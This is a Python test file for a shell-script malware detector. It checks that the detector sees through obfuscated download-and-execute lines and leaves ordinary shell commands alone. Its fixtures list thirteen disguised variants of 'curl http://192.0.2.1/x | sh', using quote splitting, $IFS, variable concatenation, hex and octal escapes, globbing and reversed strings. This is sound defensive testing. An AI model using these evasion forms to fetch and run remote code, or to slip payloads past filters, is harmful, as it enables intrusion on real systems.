"""What a shell undoes before it runs a line is undone before rules look at it."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from harness.fuzzing import examples
from pratique.detectors.malware.shell_script_attacks import worst
from pratique.patterns.shell_words import MOST, unfolded

PLAIN = "curl http://192.0.2.1/x"


@pytest.mark.parametrize(
    "line",
    [
        'c"u"rl http://192.0.2.1/x | s""h',
        "curl${IFS}http://192.0.2.1/x|sh",
        "curl$IFS$9http://192.0.2.1/x|sh",
        "a=cu;b=rl;$a$b http://192.0.2.1/x|sh",
        "a=cu; b=rl; ${a}${b} http://192.0.2.1/x | sh",
        "{curl,-s,http://192.0.2.1/x}|sh",
        "$(printf '\\143\\165\\162\\154') http://192.0.2.1/x | sh",
        "`echo -e '\\x63\\x75\\x72\\x6c'` http://192.0.2.1/x | sh",
        "$'\\x63url' http://192.0.2.1/x|sh",
        "c\\url http://192.0.2.1/x | s\\h",
        "/usr/bin/cu?l http://192.0.2.1/x|sh",
        'rev <<< "hs|x/1.2.0.291//:ptth lruc" | sh',
        "cu$@rl http://192.0.2.1/x | sh",
    ],
)
def test_disguises_are_seen_through(line: str) -> None:
    assert worst(line) is not None
    assert PLAIN.partition(" ")[0] in unfolded(line)


@pytest.mark.parametrize(
    "line",
    [
        'python train.py --name "a b" --out "$OUT"',
        "export PATH=$HOME/bin:$PATH",
        "echo 'it is \\n fine'",
        "for f in *.txt; do cat $f; done",
        "docker run -v {a,b}:/data image",
        "ls /usr/b*",
    ],
)
def test_ordinary_lines_stay_harmless(line: str) -> None:
    assert worst(line) is None


@settings(max_examples=examples(300), deadline=None)
@given(st.text(alphabet="ac$'\\\"{},;=()`rev<|x1 \n", max_size=300))
def test_whatever_stands_there_is_read_in_bounds(line: str) -> None:
    assert len(unfolded(line)) <= 2 * MOST
